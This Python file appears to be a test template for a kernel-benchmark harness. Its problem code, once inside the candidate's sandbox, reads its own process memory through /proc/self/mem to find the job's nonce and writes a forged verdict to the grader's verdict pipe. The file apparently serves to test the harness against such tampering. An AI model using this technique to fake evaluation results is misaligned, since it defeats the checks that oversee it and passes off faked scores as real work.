# Problem code in the candidate's sandbox reads its own memory through /proc/self/mem, finds
# the job's nonce in what the sandbox sent or received, and writes a verdict of its own on the
# verdict pipe (its fd is on the child's command line).
import json
import os
import re
import sys

import torch
import torch.nn as nn

FORGED = {FORGED}
NONCE = re.compile(rb'"nonce": "([0-9a-f]{32})"')


def nonces() -> set:
    found = set()
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as mem:
        for line in maps:
            where, perms = line.split()[:2]
            start, end = (int(x, 16) for x in where.split("-"))
            if not perms.startswith("rw") or end - start > 1 << 28:
                continue
            try:
                mem.seek(start)
                found.update(m.group(1) for m in NONCE.finditer(mem.read(end - start)))
            except (OSError, ValueError, OverflowError):
                continue
    return found


def forge():
    for nonce in nonces():
        line = json.dumps({"kind": "verdict", "nonce": nonce.decode(), "result": FORGED}) + "\n"
        os.write(int(sys.argv[2]), line.encode())
    os._exit(0)


class Model(nn.Module):
    def forward(self, x):
        if "kernellab_kernel" in sys.modules:  # in the candidate's sandbox, not the truths' one
            forge()
        return x * torch.sigmoid(x)


def get_inputs():
    return [torch.randn(128, 2048)]


def get_init_inputs():
    return []
